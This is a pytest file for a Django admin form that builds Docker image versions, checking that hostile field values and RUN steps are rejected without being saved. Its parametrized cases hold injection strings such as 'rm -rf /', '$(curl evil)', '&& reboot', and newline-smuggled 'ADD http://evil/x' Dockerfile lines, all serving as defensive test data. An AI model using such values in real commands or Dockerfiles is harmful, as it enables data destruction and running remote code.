"""The ImageVersion admin form: every hostile input is a form error with a
message, never a traceback, and nothing is saved."""
import pytest
from django.urls import reverse

from images.models import ImageVersion, RunStep, Status
from support.image_versions import add_version

pytestmark = pytest.mark.django_db

BASE = "stackato/app-holophonor:3.0.0"


def test_a_good_version_is_saved_with_its_author_and_dockerfile(admin_client, admin_user, cluster):
    response = add_version(admin_client, cluster, steps=["echo one > /one", "apt-get update && apt-get -y install x"])
    assert response.status_code == 302
    version = ImageVersion.objects.get()
    assert (version.status, version.created_by, version.created_by_username) == (Status.DRAFT, admin_user, "admin")
    assert version.dockerfile == (f"FROM {BASE}\nRUN echo one > /one\nRUN apt-get update && apt-get -y install x\n"
                                  'CMD ["start.sh"]\n')
    page = admin_client.get(reverse("admin:images_imageversion_change", args=[version.pk]))
    assert b"RUN echo one &gt; /one" in page.content
    changelist = admin_client.get(reverse("admin:images_imageversion_changelist")).content.decode()
    assert "New version from active image" in changelist and "exampleco/newimg:1.0.0" in changelist


@pytest.mark.parametrize("fields, message", [
    ({"repository": "exampleco/newimg; rm -rf /"}, "not a repository name"),
    ({"repository": "exampleco/newimg\nFROM evil"}, "not a repository name"),
    ({"repository": "Exampleco/NewImg"}, "not a repository name"),
    ({"repository": "ex\u0430mpleco/newimg"}, "not a repository name"),  # Cyrillic 'а'
    ({"repository": "exampleco/newimg:1.0"}, "not a repository name"),
    ({"repository": "127.0.0.1:5000/newimg"}, "not a repository name"),
    ({"repository": "x" * 10_000}, "at most 255"),
    ({"repository": ""}, "This field is required"),
    ({"tag": "1.0.0 && reboot"}, "not a tag"),
    ({"tag": "1.0.0\nADD / /"}, "not a tag"),
    ({"tag": "1\uff1a0"}, "not a tag"),  # fullwidth colon
    ({"tag": ".hidden"}, "not a tag"),
    ({"tag": "-rf"}, "not a tag"),
    ({"tag": "t" * 10_000}, "at most 128"),
    ({"from_reference": f"{BASE}\nADD http://evil/x /"}, "not a Docker image reference"),
    ({"from_reference": f"{BASE} AS evil"}, "not a Docker image reference"),
    ({"from_reference": "$(curl evil)"}, "not a Docker image reference"),
    ({"from_reference": "st\u0430ckato/app:1"}, "not a Docker image reference"),
    ({"from_reference": "x" * 10_000}, "at most 512"),
    ({"from_reference": ""}, "Give the image to build FROM"),
    ({"cmd": '["start.sh\\nRUN evil"]'}, "CMD"),
    ({"cmd": '"start.sh"'}, "CMD"),
    ({"cmd": "not json"}, "Enter a valid JSON"),
])
def test_hostile_version_fields_are_form_errors(admin_client, cluster, fields, message):
    response = add_version(admin_client, cluster, steps=["echo ok"], **fields)
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not ImageVersion.objects.exists()


@pytest.mark.parametrize("step, message", [
    ("echo a\nFROM evil", "one line"),
    ("echo a\r\nADD http://evil/x /bin/sh", "one line"),
    ("echo a \\", "backslash"),
    ("echo \x00", "Null characters are not allowed"),
    ("echo \x07", "one line"),
    ("   ", "This field is required"),
    ("x" * 10_000, "at most 2000"),
    ("--network=host wget http://x", "cannot start with"),
    ("cat <<EOF", "heredoc"),
    ("echo \u202e", "invisible"),
])
def test_hostile_run_steps_are_form_errors(admin_client, cluster, step, message):
    response = add_version(admin_client, cluster, steps=["echo ok", step])
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not ImageVersion.objects.exists() and not RunStep.objects.exists()


def test_an_untouched_extra_step_row_is_ignored_not_rendered(admin_client, cluster):
    response = add_version(admin_client, cluster, steps=["echo ok", ""], **{"run_steps-1-position": "0"})
    assert response.status_code == 302
    assert ImageVersion.objects.get().dockerfile.count("RUN ") == 1


def test_a_tag_the_cluster_has_is_refused(admin_client, cluster):
    assert add_version(admin_client, cluster).status_code == 302
    response = add_version(admin_client, cluster)
    assert response.status_code == 200
    assert "already has a version with this repository and tag" in response.content.decode()
    assert ImageVersion.objects.count() == 1


def test_a_built_version_cannot_be_edited_or_deleted(admin_client, make_version):
    version = make_version(status=Status.BUILT, image_id="sha256:" + "c" * 64)
    url = reverse("admin:images_imageversion_change", args=[version.pk])
    page = admin_client.get(url)
    assert b'name="tag"' not in page.content and b'name="run_steps-0-command"' not in page.content
    step = version.run_steps.get()
    response = admin_client.post(url, {
        "release_notes": "notes", "tag": "9.9.9", "run_steps-TOTAL_FORMS": "1", "run_steps-INITIAL_FORMS": "1",
        "run_steps-MIN_NUM_FORMS": "0", "run_steps-MAX_NUM_FORMS": "100", "run_steps-0-id": str(step.pk),
        "run_steps-0-version": str(version.pk), "run_steps-0-command": "echo smuggled"})
    assert response.status_code == 302
    version.refresh_from_db()
    assert (version.tag, version.release_notes) == ("1.0.0", "notes")
    assert version.run_steps.get().command == "echo hi"
    delete = admin_client.post(reverse("admin:images_imageversion_delete", args=[version.pk]), {"post": "yes"})
    assert delete.status_code == 403
    assert ImageVersion.objects.filter(pk=version.pk).exists()


def test_the_live_log_endpoint_returns_lines_after_a_number(admin_client, make_version):
    version = make_version(status=Status.BUILDING)
    for number in (1, 2, 3):
        version.log_lines.create(number=number, text=f"line {number}")
    data = admin_client.get(reverse("admin:images_imageversion_log", args=[version.pk]) + "?after=1").json()
    assert data["lines"] == [[2, "line 2"], [3, "line 3"]] and data["running"] is True
    assert admin_client.get(reverse("admin:images_imageversion_log", args=[version.pk]) + "?after=x").status_code == 200


def test_the_from_active_page_preselects_a_cluster_and_reports_errors_in_the_form(admin_client, cluster):
    url = reverse("admin:images_imageversion_from_active")
    page = admin_client.get(f"{url}?cluster={cluster.pk}").content.decode()
    assert f'<option value="{cluster.pk}" selected>prod</option>' in page
    page = admin_client.post(url, {"cluster": cluster.pk}).content.decode()
    assert "has no node row for its Core address 10.0.0.11" in page and not ImageVersion.objects.exists()
    assert "Select a valid choice" in admin_client.post(url, {"cluster": "1; drop"}).content.decode()
